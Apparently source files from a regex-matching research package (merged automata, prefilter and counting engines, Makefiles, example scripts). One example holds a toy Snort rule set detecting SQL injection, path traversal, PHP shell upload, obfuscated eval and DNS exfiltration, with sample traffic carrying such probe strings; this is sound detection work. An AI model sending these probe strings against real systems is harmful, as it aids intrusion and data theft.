        run = IMfantEngine(compiled.mfsas[0]).run(log)
        results[label] = (compiled.merge_report, run)
        print(f"{label:>20}: {compiled.merge_report.output_states} states, "
              f"{compiled.merge_report.output_transitions} transitions, "
              f"{len(run.matches)} matches")

    # Both modes report the same matches — stratification is sound.
    exact, partial = (results[k][1].matches for k in results)
    assert exact == partial

    # Per-severity summary from the exact-mode run.
    run = results["exact-CC merging"][1]
    counts: dict[int, int] = {}
    for rule, _ in run.matches:
        counts[rule] = counts.get(rule, 0) + 1
    print("\nper-rule hit counts:")
    for rule in sorted(counts):
        print(f"  [{counts[rule]:3d}] {RULES[rule]}")


if __name__ == "__main__":
    main()
