"""IDS-style ingestion: snort-lite rules → merged MFSA → alerts.

The complete DPI story in one script: rules arrive in Snort syntax
(content/pcre/nocase options), the ingestion front-end lowers them to
the ERE subset, the framework merges them into one MFSA, and iMFAnt
scans traffic reporting alerts by signature id and message.

Run:  python examples/ids_rules.py
"""

from repro.frontend.snortlite import SnortRulesetEngine, parse_rules

RULE_FILE = r'''
# toy signature set
alert tcp any any -> any 80 (msg:"SQL injection probe"; \
    content:"union select"; nocase; sid:2001;)
alert tcp any any -> any 80 (msg:"Path traversal"; \
    pcre:"/\.\.\/\.\.\//"; sid:2002;)
alert tcp any any -> any any (msg:"Shell upload"; \
    content:"POST "; content:".php"; content:"|0d 0a|"; sid:2003;)
alert tcp any any -> any any (msg:"Obfuscated eval"; \
    pcre:"/eval\(base64_decode/i"; sid:2004;)
drop udp any any -> any 53 (msg:"DNS tunnel marker"; \
    content:"|05|xfilt|04|data"; sid:2005;)
'''

TRAFFIC = (
    b"GET /item?q=9 UNION SELECT card FROM users HTTP/1.1\r\n"
    b"POST /uploads/shell.php HTTP/1.1\r\n"
    b"GET /../../etc/hosts HTTP/1.1\r\n"
    b"x=EVAL(BASE64_DECODE('aWQ='))\r\n"
    + bytes([5]) + b"xfilt" + bytes([4]) + b"data\r\n"
)


def main() -> None:
    rules = parse_rules(RULE_FILE)
    print(f"loaded {len(rules)} signatures "
          f"({sum(r.nocase for r in rules)} case-insensitive)\n")

    # SnortRulesetEngine splits by the nocase flag (case folding is a
    # compile-time property), merges each group into an MFSA, and scans.
    engine = SnortRulesetEngine(RULE_FILE)
    print("alerts:")
    for rule, end in engine.scan(TRAFFIC):
        print(f"  [{rule.action}] sid={rule.sid} at byte {end}: {rule.msg}")


if __name__ == "__main__":
    main()
