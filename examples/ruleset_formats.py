"""Tour of the representations: one ruleset, five executable forms.

Loads the curated `range_rules` suite (shipped with the package) and
compiles it into every representation the library offers — merged MFSA,
counting MFSA, union DFA (+ D2FA), and the literal-prefilter split —
then matches the same stream with each and compares size and work.

Run:  python examples/ruleset_formats.py
"""

from repro import CompileOptions, IMfantEngine, PrefilterEngine, compile_ruleset
from repro.counting import (
    CountingMfsaEngine,
    build_counting_fsa,
    merge_counting_fsas,
)
from repro.datasets import load_builtin
from repro.dfa import (
    DfaEngine,
    DfaExplosionError,
    compress_default_transitions,
    determinize,
    minimize,
)
from repro.reporting.tables import format_table

STREAM = (
    b"at 2024-11-05T08:30 peer 10.20.30.40:8443 sent 0xdeadbeefcafebabe "
    b"trace 550e8400-e29b-41d4-a716-446655440000 paid $1299.99 "
    b"hash da39a3ee5e6b4b0d3255bfef95601890afd80709 color #ff8800 "
) * 3


def main() -> None:
    ruleset = load_builtin("range_rules")
    patterns = list(ruleset.patterns)
    print(f"{len(patterns)} range-heavy rules, e.g. {patterns[0]!r}\n")

    rows = []
    reference = None

    # 1. merged MFSA (the paper's representation)
    compiled = compile_ruleset(patterns, CompileOptions(merging_factor=0, emit_anml=False))
    run = IMfantEngine(compiled.mfsas[0]).run(STREAM)
    reference = run.matches
    rows.append(("merged MFSA", compiled.mfsas[0].num_states,
                 compiled.mfsas[0].num_transitions, run.stats.transitions_examined))

    # 2. counting MFSA (counted runs kept compressed and shared)
    counting = merge_counting_fsas(
        [(i, build_counting_fsa(p)) for i, p in enumerate(patterns)]
    )
    run = CountingMfsaEngine(counting).run(STREAM)
    assert run.matches == reference
    rows.append(("counting MFSA", counting.num_states,
                 counting.num_transitions, run.stats.transitions_examined))

    # 3. classic DFA pipeline (may explode on richer rulesets)
    try:
        dfa = minimize(determinize(list(enumerate(compiled.fsas)), max_states=30_000))
        run = DfaEngine(dfa).run(STREAM)
        assert run.matches == reference
        rows.append(("minimised union DFA", dfa.num_states,
                     dfa.num_transitions, run.stats.transitions_examined))
        d2fa = compress_default_transitions(dfa)
        rows.append(("D2FA (default transitions)", d2fa.num_states,
                     d2fa.num_stored_transitions, "—"))
    except DfaExplosionError as exc:
        print(f"union DFA exploded past {exc.budget} states — the classic "
              "failure mode MFSAs avoid\n")

    # 4. literal prefilter split (Hyperscan-style)
    prefilter = PrefilterEngine(patterns)
    matches, stats = prefilter.run(STREAM)
    assert matches == reference
    rows.append(("literal prefilter + per-rule FSAs",
                 f"{stats.rules_skipped}/{stats.total_rules} rules skipped",
                 "-", stats.engine.transitions_examined))

    print(format_table(
        ("representation", "states", "transitions", "work on stream"),
        rows,
        title=f"one ruleset, many engines — {len(reference)} matches each",
    ))


if __name__ == "__main__":
    main()
