"""Deep packet inspection: the paper's motivating scenario (§I).

A Bro/Snort-style signature ruleset is compiled at several merging
factors and executed over a synthetic packet stream; the script reports
the compression and the single-thread + multi-thread performance picture
(a miniature of the paper's Figs. 7, 9 and 10).

Run:  python examples/deep_packet_inspection.py
"""

from repro import CompileOptions, CostModel, IMfantEngine, MachineModel, compile_ruleset
from repro.datasets import generate_ruleset, generate_stream, get_profile
from repro.engine.multithread import simulate_parallel_latency
from repro.reporting.tables import format_table


def main() -> None:
    # A scaled Bro217-like signature suite + synthetic traffic.
    profile = get_profile("BRO").scaled(8)
    ruleset = generate_ruleset(profile)
    traffic = generate_stream(ruleset, size=4096)
    print(f"ruleset: {len(ruleset)} HTTP-ish signatures, e.g. {ruleset.patterns[0]!r}")
    print(f"traffic: {len(traffic)} bytes\n")

    cost = CostModel()
    machine = MachineModel()  # the paper's 4C/8T CPU
    rows = []
    baseline_work = None
    baseline_matches = None
    for m in (1, 2, 5, 10, 0):
        compiled = compile_ruleset(ruleset.patterns,
                                   CompileOptions(merging_factor=m, emit_anml=False))
        works, matches = [], set()
        for mfsa in compiled.mfsas:
            run = IMfantEngine(mfsa).run(traffic)
            works.append(cost.run_cost(run.stats))
            matches |= run.matches

        if m == 1:
            baseline_work = sum(works)
            baseline_matches = matches
        # matches are invariant under merging — the factor is purely a
        # performance knob:
        assert matches == baseline_matches

        rows.append((
            "all" if m == 0 else m,
            len(compiled.mfsas),
            f"{compiled.merge_report.state_compression:.1f}%",
            f"{baseline_work / sum(works):.2f}x",
            f"{simulate_parallel_latency(works, 1, machine):.0f}",
            f"{simulate_parallel_latency(works, 8, machine):.0f}",
        ))

    print(format_table(
        ("M", "#MFSA", "state comp.", "throughput vs M=1", "latency T=1", "latency T=8"),
        rows,
        title="merging factor sweep (latency in cost-model work units)"))
    print(f"\nmatches found in traffic: {len(baseline_matches)} (invariant across M)")


if __name__ == "__main__":
    main()
