"""Genome/proteome motif scanning (the paper's bioinformatics use case).

Protomata-style protein-motif rules share long sub-patterns, which makes
them the best compression case in the paper's evaluation.  The script
merges a motif ruleset, inspects the activation behaviour (Table II
style) and round-trips the automaton through the extended-ANML format.

Run:  python examples/genome_motifs.py
"""

from repro import CompileOptions, IMfantEngine, compile_ruleset, read_anml
from repro.datasets import generate_ruleset, generate_stream, get_profile
from repro.mfsa.activation import active_set_trace
from repro.reporting.tables import format_table


def main() -> None:
    profile = get_profile("PRO").scaled(10)
    ruleset = generate_ruleset(profile)
    sequence = generate_stream(ruleset, size=2048)
    print(f"{len(ruleset)} protein motif rules over alphabet {profile.alphabet!r}")
    print(f"example motifs: {ruleset.patterns[0]!r}, {ruleset.patterns[1]!r}\n")

    # Merge everything into one MFSA; motif rulesets compress heavily.
    result = compile_ruleset(ruleset.patterns, CompileOptions(merging_factor=0))
    mfsa = result.mfsas[0]
    report = result.merge_report
    print(f"states compressed      : {report.state_compression:.1f}% "
          f"({report.input_states} -> {report.output_states})")
    print(f"transitions compressed : {report.transition_compression:.1f}%")

    # Activation behaviour: how many (state, rule) pairs stay live per
    # residue — wide classes + high similarity keep many rules active.
    trace = active_set_trace(mfsa, sequence)
    print(f"active pairs per residue: avg {sum(trace)/len(trace):.1f}, max {max(trace)}")

    # Scan with iMFAnt and summarise per-rule hits.
    run = IMfantEngine(mfsa).run(sequence)
    per_rule: dict[int, int] = {}
    for rule, _ in run.matches:
        per_rule[rule] = per_rule.get(rule, 0) + 1
    top = sorted(per_rule.items(), key=lambda kv: -kv[1])[:5]
    print(format_table(("rule", "pattern", "hits"),
                       [(r, ruleset.patterns[r], n) for r, n in top],
                       title="\ntop motif hits"))

    # The ANML artifact round-trips losslessly and matches identically.
    assert result.anml is not None
    recovered = read_anml(result.anml[0])
    rerun = IMfantEngine(recovered).run(sequence)
    assert rerun.matches == run.matches
    print(f"\nANML round-trip verified: {len(run.matches)} matches reproduced "
          f"from the serialised automaton ({len(result.anml[0])} bytes of XML)")


if __name__ == "__main__":
    main()
