"""Setuptools shim enabling `pip install -e .` in offline environments
that lack the `wheel` package needed for PEP 660 editable installs.
All metadata lives in pyproject.toml."""

from setuptools import setup

setup()
