# Convenience targets for the common workflows.

.PHONY: install dev test bench bench-verbose report reproduce examples obs-smoke ci clean

install:
	pip install -e . --no-build-isolation

dev: install
	pip install -e .[dev] --no-build-isolation

test:
	pytest tests/

bench:
	pytest benchmarks/ --benchmark-only

bench-verbose:
	pytest benchmarks/ --benchmark-only -s

report:
	repro-report all

reproduce:
	python scripts/run_full_reproduction.py

examples:
	@for f in examples/*.py; do echo "== $$f"; python $$f; echo; done

# End-to-end observability smoke: compile a builtin ruleset with tracing
# on, match 64 KB of stream, and validate the emitted Chrome-trace JSON
# against the trace-event schema (strict key/type checks, well-nested).
obs-smoke:
	PYTHONPATH=src pytest tests/ -m obs -q

# What .github/workflows/ci.yml runs, for local use: the tier-1 suite
# plus the observability smoke.
ci:
	PYTHONPATH=src python -m pytest -x -q
	$(MAKE) obs-smoke

clean:
	rm -rf .pytest_cache .hypothesis .benchmarks build dist *.egg-info \
	       src/*.egg-info results mfsa_out dot_out
	find . -name __pycache__ -type d -exec rm -rf {} +
