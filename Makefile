# Convenience targets for the common workflows.

.PHONY: install dev test bench bench-verbose report reproduce examples obs-smoke guard-smoke serve-smoke loadgen-smoke sfa-smoke dense-smoke chaos-smoke counting-smoke ci clean

install:
	pip install -e . --no-build-isolation

dev: install
	pip install -e .[dev] --no-build-isolation

test:
	pytest tests/

bench:
	pytest benchmarks/ --benchmark-only

bench-verbose:
	pytest benchmarks/ --benchmark-only -s

report:
	repro-report all

reproduce:
	python scripts/run_full_reproduction.py

examples:
	@for f in examples/*.py; do echo "== $$f"; python $$f; echo; done

# End-to-end observability smoke: compile a builtin ruleset with tracing
# on, match 64 KB of stream, and validate the emitted Chrome-trace JSON
# against the trace-event schema (strict key/type checks, well-nested).
obs-smoke:
	PYTHONPATH=src pytest tests/ -m obs -q

# Resource-governance smoke: the guard/fault-injection suites, then an
# adversarial CLI drill — a state-explosion rule under --on-error
# quarantine must isolate the offender and exit 3 (partial), within a
# hard timeout (a governed compile may fail, never hang).
guard-smoke:
	PYTHONPATH=src pytest tests/ -m guard -q
	@printf 'abc\nx{5000}\nabd\n' > /tmp/guard-smoke-rules.txt
	@sh -c 'PYTHONPATH=src timeout 60 python -m repro.cli compile \
	    /tmp/guard-smoke-rules.txt -o /tmp/guard-smoke-out \
	    --budget-loop-copies 256 --on-error quarantine; \
	  test $$? -eq 3 && echo "guard-smoke: quarantine exit code OK"'
	@rm -rf /tmp/guard-smoke-rules.txt /tmp/guard-smoke-out

# Serving smoke: the serve-marked suite (protocol, artifact cache,
# shard pool, backpressure, fault drills, socket round trips), then an
# end-to-end CLI drill — serve a builtin ruleset on a UNIX socket,
# match a payload through the client, and shut the server down cleanly.
serve-smoke:
	PYTHONPATH=src pytest tests/ -m serve -q
	@rm -rf /tmp/serve-smoke && mkdir -p /tmp/serve-smoke
	@printf 'MAIL FROM:x AUTH LOGIN smoke payload' > /tmp/serve-smoke/payload.bin
	@sh -c 'PYTHONPATH=src timeout 120 python -m repro.cli serve \
	    --builtin tokens_exact --socket /tmp/serve-smoke/sock \
	    --shards 2 --artifact-dir /tmp/serve-smoke/cache & \
	  for i in $$(seq 1 100); do test -S /tmp/serve-smoke/sock && break; sleep 0.1; done; \
	  PYTHONPATH=src python -m repro.cli client /tmp/serve-smoke/payload.bin \
	    --socket /tmp/serve-smoke/sock && \
	  PYTHONPATH=src python -m repro.cli client --socket /tmp/serve-smoke/sock --shutdown && \
	  wait && echo "serve-smoke: end-to-end OK"'
	@rm -rf /tmp/serve-smoke

# Load-generation smoke: a seconds-long clients x shards sweep through
# real sockets that asserts per-request latency percentiles (p50/p95/
# p99) come out present and positive — guards the loadgen harness and
# the serve latency instrumentation it reads.
loadgen-smoke:
	PYTHONPATH=src timeout 300 python benchmarks/loadgen.py --smoke

# SFA mapping smoke: the chunk-mapping algebra suite (monoid laws,
# arbitrary-cut equivalence on every builtin ruleset, mapping-mode shard
# conformance), then the scaling bench — which asserts the >1.5x
# 4-thread speedup on a ruleset the overlap planner cannot chunk.
sfa-smoke:
	PYTHONPATH=src pytest tests/ -m sfa -q
	PYTHONPATH=src timeout 600 python benchmarks/bench_sfa_scaling.py --smoke

# Dense-tier smoke: the dense-marked suite (byte-class edge cases,
# promotion gates, mid-buffer de-opt parity, guard integration, bulk
# SFA kernel), then the dense bench in smoke mode — which asserts
# byte-identical matches and a sparse-stream speedup floor over the
# warm lazy backend.
dense-smoke:
	PYTHONPATH=src pytest tests/ -m dense -q
	PYTHONPATH=src timeout 600 python benchmarks/bench_dense.py --smoke

# Self-healing smoke: the chaos-marked suite (retry/dedup/admission/
# supervisor units plus the watchdog, kill-storm, heartbeat, hot-reload
# and torn-frame drills), then the chaos-soak bench in smoke mode —
# loadgen traffic under injected faults asserting zero incorrect match
# sets, >=99% availability and return to steady state.
chaos-smoke:
	PYTHONPATH=src pytest tests/ -m chaos -q
	PYTHONPATH=src timeout 600 python benchmarks/bench_resilience.py --smoke

# Counting-backend smoke: the counting-marked suite (hypothesis
# differential oracle vs the loop-expanded pipeline, cut-point
# invariance, register-pressure demotion drills, conformance matrix),
# then the bound-sweep bench in smoke mode — which asserts the counting
# compile beats expansion on modelled memory, oracle-checked.
counting-smoke:
	PYTHONPATH=src pytest tests/ -m counting -q
	PYTHONPATH=src timeout 600 python benchmarks/bench_counting_backend.py --smoke

# What .github/workflows/ci.yml runs, for local use: the tier-1 suite
# plus the observability, governance, serving, loadgen, SFA, dense,
# chaos and counting smokes.
ci:
	PYTHONPATH=src python -m pytest -x -q
	$(MAKE) obs-smoke
	$(MAKE) guard-smoke
	$(MAKE) serve-smoke
	$(MAKE) loadgen-smoke
	$(MAKE) sfa-smoke
	$(MAKE) dense-smoke
	$(MAKE) chaos-smoke
	$(MAKE) counting-smoke

clean:
	rm -rf .pytest_cache .hypothesis .benchmarks build dist *.egg-info \
	       src/*.egg-info results mfsa_out dot_out
	find . -name __pycache__ -type d -exec rm -rf {} +
