# Convenience targets for the common workflows.

.PHONY: install dev test bench bench-verbose report reproduce examples obs-smoke guard-smoke ci clean

install:
	pip install -e . --no-build-isolation

dev: install
	pip install -e .[dev] --no-build-isolation

test:
	pytest tests/

bench:
	pytest benchmarks/ --benchmark-only

bench-verbose:
	pytest benchmarks/ --benchmark-only -s

report:
	repro-report all

reproduce:
	python scripts/run_full_reproduction.py

examples:
	@for f in examples/*.py; do echo "== $$f"; python $$f; echo; done

# End-to-end observability smoke: compile a builtin ruleset with tracing
# on, match 64 KB of stream, and validate the emitted Chrome-trace JSON
# against the trace-event schema (strict key/type checks, well-nested).
obs-smoke:
	PYTHONPATH=src pytest tests/ -m obs -q

# Resource-governance smoke: the guard/fault-injection suites, then an
# adversarial CLI drill — a state-explosion rule under --on-error
# quarantine must isolate the offender and exit 3 (partial), within a
# hard timeout (a governed compile may fail, never hang).
guard-smoke:
	PYTHONPATH=src pytest tests/ -m guard -q
	@printf 'abc\nx{5000}\nabd\n' > /tmp/guard-smoke-rules.txt
	@sh -c 'PYTHONPATH=src timeout 60 python -m repro.cli compile \
	    /tmp/guard-smoke-rules.txt -o /tmp/guard-smoke-out \
	    --budget-loop-copies 256 --on-error quarantine; \
	  test $$? -eq 3 && echo "guard-smoke: quarantine exit code OK"'
	@rm -rf /tmp/guard-smoke-rules.txt /tmp/guard-smoke-out

# What .github/workflows/ci.yml runs, for local use: the tier-1 suite
# plus the observability and governance smokes.
ci:
	PYTHONPATH=src python -m pytest -x -q
	$(MAKE) obs-smoke
	$(MAKE) guard-smoke

clean:
	rm -rf .pytest_cache .hypothesis .benchmarks build dist *.egg-info \
	       src/*.egg-info results mfsa_out dot_out
	find . -name __pycache__ -type d -exec rm -rf {} +
