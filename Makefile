# Convenience targets for the common workflows.

.PHONY: install dev test bench bench-verbose report reproduce examples clean

install:
	pip install -e . --no-build-isolation

dev: install
	pip install -e .[dev] --no-build-isolation

test:
	pytest tests/

bench:
	pytest benchmarks/ --benchmark-only

bench-verbose:
	pytest benchmarks/ --benchmark-only -s

report:
	repro-report all

reproduce:
	python scripts/run_full_reproduction.py

examples:
	@for f in examples/*.py; do echo "== $$f"; python $$f; echo; done

clean:
	rm -rf .pytest_cache .hypothesis .benchmarks build dist *.egg-info \
	       src/*.egg-info results mfsa_out dot_out
	find . -name __pycache__ -type d -exec rm -rf {} +
