"""Regex decomposition baseline (paper related work: Hyperscan [6]).

Hyperscan-style matchers split REs into literal string factors matched
by an exact multi-string engine and automata parts run only when a
literal hits.  This package provides that comparator:

* :mod:`repro.decompose.rules` — per-rule decomposition (required
  literal factors + match-width bounds from
  :mod:`repro.frontend.analysis`);
* :mod:`repro.decompose.engine` — the prefilter engine: an Aho–Corasick
  pass over the stream gates which rules' automata run, and bounded-
  width rules are confirmed on windows around their literal hits.

The engine is exactly equivalent to running every rule's FSA (property-
tested); the benchmark compares it against iMFAnt across hit rates.
"""

from repro.decompose.rules import DecomposedRule, decompose_rule
from repro.decompose.engine import PrefilterEngine

__all__ = ["DecomposedRule", "decompose_rule", "PrefilterEngine"]
