"""The prefilter engine: Aho–Corasick gating + windowed FSA confirmation.

Execution of a ruleset proceeds in two phases:

1. **Prefilter** — one Aho–Corasick pass over the stream finds every
   occurrence of every rule's literal factors.  Rules with no factor
   occurrence cannot match and are skipped entirely.
2. **Confirmation** — surviving rules run their FSA:

   * unbounded rules (``window is None``) scan the whole stream;
   * bounded rules scan only merged windows around their literal hits —
     a match of width ≤ w containing a factor ending at h must itself
     end within ``[h, h + w)`` and start within ``(h - 2w, h]``, so
     scanning ``[h - 2w, h + w)`` with offset-corrected reporting finds
     exactly the stream's matches (windows are merged when overlapping).

The result equals running every rule over the whole stream (property-
tested against the reference simulator).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Sequence

from repro.automata.optimize import OptimizeOptions
from repro.decompose.rules import DecomposedRule, decompose_rule
from repro.engine.counters import ExecutionStats, RunResult
from repro.engine.infant import INfantEngine
from repro.stringmatch.ahocorasick import AhoCorasick


@dataclass
class PrefilterStats:
    """How effective the literal gate was on one stream."""

    total_rules: int = 0
    prefilterable_rules: int = 0
    rules_confirmed: int = 0
    literal_hits: int = 0
    bytes_scanned_confirming: int = 0
    engine: ExecutionStats = field(default_factory=ExecutionStats)

    @property
    def rules_skipped(self) -> int:
        """Rules the literal gate eliminated without running their FSA."""
        return self.total_rules - self.rules_confirmed


class PrefilterEngine:
    """Hyperscan-style matcher for a whole ruleset (see module doc)."""

    def __init__(self, patterns: Sequence[str], options: OptimizeOptions | None = None) -> None:
        self.rules: list[DecomposedRule] = [
            decompose_rule(rule_id, pattern, options)
            for rule_id, pattern in enumerate(patterns)
        ]
        # One shared Aho–Corasick over all factors, mapping each literal
        # occurrence back to the rules requiring it.
        self._literal_owners: list[list[int]] = []
        literals: list[str] = []
        owner_of: dict[str, int] = {}
        for rule in self.rules:
            if rule.literals is None:
                continue
            for literal in rule.literals:
                index = owner_of.get(literal)
                if index is None:
                    index = len(literals)
                    owner_of[literal] = index
                    literals.append(literal)
                    self._literal_owners.append([])
                self._literal_owners[index].append(rule.rule_id)
        self._prefilter = AhoCorasick(literals) if literals else None
        self._engines = {rule.rule_id: INfantEngine(rule.fsa, rule.rule_id) for rule in self.rules}
        self._rule_by_id = {rule.rule_id: rule for rule in self.rules}

    def run(self, data: bytes | str) -> tuple[set[tuple[int, int]], PrefilterStats]:
        payload = data.encode("latin-1") if isinstance(data, str) else data
        stats = PrefilterStats(
            total_rules=len(self.rules),
            prefilterable_rules=sum(1 for r in self.rules if r.prefilterable),
        )

        hits_per_rule: dict[int, list[int]] = {}
        if self._prefilter is not None:
            for literal_id, end in self._prefilter.iter_matches(payload):
                stats.literal_hits += 1
                for rule_id in self._literal_owners[literal_id]:
                    hits_per_rule.setdefault(rule_id, []).append(end)

        matches: set[tuple[int, int]] = set()
        for rule in self.rules:
            if rule.prefilterable and rule.rule_id not in hits_per_rule:
                continue  # literal gate: the rule cannot match
            stats.rules_confirmed += 1
            matches |= self._confirm(rule, payload, hits_per_rule.get(rule.rule_id), stats)
        stats.engine.match_count = len(matches)
        return matches, stats

    # -- confirmation -------------------------------------------------------

    def _confirm(
        self,
        rule: DecomposedRule,
        payload: bytes,
        hits: list[int] | None,
        stats: PrefilterStats,
    ) -> set[tuple[int, int]]:
        engine = self._engines[rule.rule_id]
        if hits is None or rule.window is None:
            stats.bytes_scanned_confirming += len(payload)
            result = engine.run(payload)
            stats.engine.merge(result.stats)
            return result.matches

        windows = _merge_windows(hits, rule.window, len(payload))
        matches: set[tuple[int, int]] = set()
        for start, end in windows:
            stats.bytes_scanned_confirming += end - start
            result = engine.run(payload[start:end])
            stats.engine.merge(result.stats)
            matches |= {(rule.rule_id, offset + start) for _, offset in result.matches}
        return matches


def _merge_windows(hits: list[int], width: int, stream_len: int) -> list[tuple[int, int]]:
    """Confirmation windows ``[h - 2w, h + w)`` per hit, clamped and merged.

    ``width`` is the rule's maximum match width w ≥ 1.  A match (length
    ≤ w) whose factor occurrence ends at ``h`` starts after ``h - 2w``
    and ends before ``h + w``, so the window covers it entirely.
    """
    span = max(1, width)
    intervals = sorted((max(0, h - 2 * span), min(stream_len, h + span)) for h in hits)
    merged: list[tuple[int, int]] = []
    for start, end in intervals:
        if merged and start <= merged[-1][1]:
            previous = merged.pop()
            merged.append((previous[0], max(previous[1], end)))
        else:
            merged.append((start, end))
    return merged
