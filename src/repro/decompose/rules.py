"""Per-rule decomposition: literal factors and confirmation strategy."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional

from repro.automata.fsa import Fsa
from repro.automata.optimize import OptimizeOptions, compile_re_to_fsa, optimize_ast
from repro.frontend.analysis import max_width, min_width, required_literals
from repro.frontend.parser import parse


@dataclass(frozen=True)
class DecomposedRule:
    """One rule's decomposition result.

    ``literals`` is a required factor set (every match contains one of
    them) or None when no useful factor exists — such rules bypass the
    prefilter and always run their automaton ("outliers" in Hyperscan
    terms).  ``window`` is the confirmation half-width for bounded rules
    (None = unbounded, confirm over the whole stream on any hit).
    """

    rule_id: int
    pattern: str
    fsa: Fsa
    literals: Optional[frozenset[str]]
    min_len: int
    window: Optional[int]

    @property
    def prefilterable(self) -> bool:
        return self.literals is not None


def decompose_rule(rule_id: int, pattern: str, options: OptimizeOptions | None = None) -> DecomposedRule:
    """Analyse one rule: factors, widths and the compiled FSA."""
    ast = parse(pattern)
    factors = required_literals(optimize_ast(ast, options))
    widest = max_width(ast)
    return DecomposedRule(
        rule_id=rule_id,
        pattern=pattern,
        fsa=compile_re_to_fsa(pattern, options),
        literals=factors.literals if factors is not None else None,
        min_len=min_width(ast),
        window=widest,
    )
