"""``python -m repro`` — umbrella CLI dispatcher (see repro.cli.main)."""

import sys

from repro.cli import main

if __name__ == "__main__":
    sys.exit(main())
