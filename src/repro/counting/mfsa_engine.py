"""Execution of counting MFSAs: activation masks + counting sets.

Combines the iMFAnt step (per-state activation bitmasks, Eqs. 4–6) with
the counting-set mechanics of :mod:`repro.counting.engine`.  Counting-
arc entries carry the activation mask they entered with:

* entering on a label byte from an active (or initial) source pushes
  ``(entry_offset, (J(src) ∪ init(src)) ∩ bel)``;
* while matching bytes keep arriving, counts increment implicitly and
  entries with count > high expire from the left;
* the arc's destination receives the union of the masks of all in-range
  entries (its Eq. 4–6 contribution), alongside the plain arcs';
* unbounded arcs saturate per mask: matured masks accumulate into a
  sticky union that resets on the first non-matching byte.

Per-rule matches of the merged automaton equal the per-rule counting
engines (property-tested), which themselves equal the expansion
reference.
"""

from __future__ import annotations

import time
from collections import deque
from typing import Iterable

from repro.counting.mfsa import CountingMfsa
from repro.engine.counters import RunResult
from repro.labels import ALPHABET_SIZE


class CountingMfsaEngine:
    """Streaming matcher for one counting MFSA."""

    def __init__(self, cmfsa: CountingMfsa) -> None:
        cmfsa.validate()
        self.cmfsa = cmfsa
        slots = cmfsa.slot_of()
        self._slot_to_rule = [r for r, _ in sorted(slots.items(), key=lambda kv: kv[1])]
        self._init_mask = cmfsa.initial_mask_per_state()
        self._final_mask = cmfsa.final_mask_per_state()

        self._plain_by_symbol: list[list[tuple[int, int, int]]] = [
            [] for _ in range(ALPHABET_SIZE)
        ]
        for t in cmfsa.plain:
            bel_mask = 0
            for rule in t.bel:
                bel_mask |= 1 << slots[rule]
            entry = (t.src, t.dst, bel_mask)
            for byte in t.label.chars():
                self._plain_by_symbol[byte].append(entry)

        self._counting_bel: list[int] = []
        self._counting_masks: list[int] = []
        for arc in cmfsa.counting:
            bel_mask = 0
            for rule in arc.bel:
                bel_mask |= 1 << slots[rule]
            self._counting_bel.append(bel_mask)
            self._counting_masks.append(arc.label.mask)

    def run(self, data: bytes | str, collect_stats: bool = True) -> RunResult:
        payload = data.encode("latin-1") if isinstance(data, str) else data
        cmfsa = self.cmfsa
        plain_by_symbol = self._plain_by_symbol
        counting = cmfsa.counting
        counting_bel = self._counting_bel
        counting_masks = self._counting_masks
        init_mask = self._init_mask
        final_mask = self._final_mask
        slot_to_rule = self._slot_to_rule

        result = RunResult()
        stats = result.stats
        matches = result.matches
        for rule, q0 in cmfsa.initials.items():
            if q0 in cmfsa.finals[rule]:
                matches.update((rule, end) for end in range(len(payload) + 1))

        started = time.perf_counter()
        active: dict[int, int] = {}
        entries: list[deque[tuple[int, int]]] = [deque() for _ in counting]
        saturated: list[int] = [0] * len(counting)
        for position, byte in enumerate(payload, start=1):
            bit = 1 << byte
            nxt: dict[int, int] = {}
            enabled = plain_by_symbol[byte]
            for src, dst, bel in enabled:
                mask = (active.get(src, 0) | init_mask[src]) & bel
                if mask:
                    nxt[dst] = nxt.get(dst, 0) | mask

            for index, arc in enumerate(counting):
                queue = entries[index]
                if not (counting_masks[index] & bit):
                    if queue:
                        queue.clear()
                    saturated[index] = 0
                    continue
                if arc.high is not None:
                    while queue and position - queue[0][0] > arc.high:
                        queue.popleft()
                else:
                    while queue and position - queue[0][0] >= arc.low:
                        saturated[index] |= queue.popleft()[1]
                entry_mask = (active.get(arc.src, 0) | init_mask[arc.src]) & counting_bel[index]
                if entry_mask:
                    queue.append((position - 1, entry_mask))
                exit_mask = saturated[index]
                for start, mask in queue:
                    if position - start >= arc.low:
                        exit_mask |= mask
                    else:
                        break  # queue ordered by start: younger = smaller count
                if exit_mask:
                    nxt[arc.dst] = nxt.get(arc.dst, 0) | exit_mask

            active = nxt
            for state, mask in nxt.items():
                hit = mask & final_mask[state]
                if hit:
                    for slot in _bits(hit):
                        matches.add((slot_to_rule[slot], position))
            if collect_stats:
                stats.transitions_examined += len(enabled) + len(counting)
                live = sum(m.bit_count() for m in active.values())
                live += sum(len(q) for q in entries)
                stats.active_pair_total += live
                if live > stats.max_state_activation:
                    stats.max_state_activation = live

        stats.wall_seconds = time.perf_counter() - started
        stats.chars_processed = len(payload)
        stats.match_count = len(matches)
        return result


def _bits(mask: int) -> Iterable[int]:
    while mask:
        low = mask & -mask
        yield low.bit_length() - 1
        mask ^= low
