"""Construction of counting NFAs from regex ASTs.

A Thompson-like builder in which a bounded repeat whose body is a single
character class — ``L{m,n}`` with m ≥ 1 — becomes one *counting arc*
instead of an expanded chain; every other construct builds exactly as in
:mod:`repro.automata.thompson` (ε-arcs and all).  A final mixed-arc
ε-removal produces the ε-free :class:`repro.counting.model.CountingFsa`.

``min_count_bound`` controls when counting kicks in: tiny bounds expand
(a 2-state chain beats counter bookkeeping), large bounds count.  Width-1
optional repeats ``L{0,n}`` become a counting arc (with low=1) plus a
plain ε bypass, so the full quantifier family is covered.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.counting.model import CountingFsa, CountingTransition
from repro.frontend.ast import Alternation, AstNode, Concat, Empty, Literal, Repeat
from repro.frontend.parser import parse
from repro.labels import CharClass

#: Bounded repeats with high < this many copies expand instead of count.
DEFAULT_MIN_COUNT_BOUND = 4


@dataclass
class _Arc:
    src: int
    dst: int
    label: CharClass | None  # None = ε
    counting: tuple[int, int | None] | None = None  # (low, high) when counting


@dataclass
class _Builder:
    num_states: int = 0
    arcs: list[_Arc] = field(default_factory=list)
    min_count_bound: int = DEFAULT_MIN_COUNT_BOUND

    def state(self) -> int:
        self.num_states += 1
        return self.num_states - 1

    def eps(self, src: int, dst: int) -> None:
        self.arcs.append(_Arc(src, dst, None))

    def build(self, node: AstNode) -> tuple[int, int]:
        if isinstance(node, Empty):
            entry, exit_ = self.state(), self.state()
            self.eps(entry, exit_)
            return entry, exit_
